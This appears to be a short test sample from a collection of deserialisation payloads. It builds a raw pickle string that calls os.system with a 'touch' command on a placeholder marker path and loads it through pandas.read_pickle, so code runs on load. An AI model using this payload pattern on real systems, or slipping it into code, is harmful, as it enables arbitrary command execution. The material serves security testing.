# family: pickle payloads (pandas.read_pickle)
# goal: unpickle a payload that calls os.system
import io
import pandas as pd
payload = b"cos\nsystem\n(S'touch __MARKER_PATH__'\ntR."
pd.read_pickle(io.BytesIO(payload))
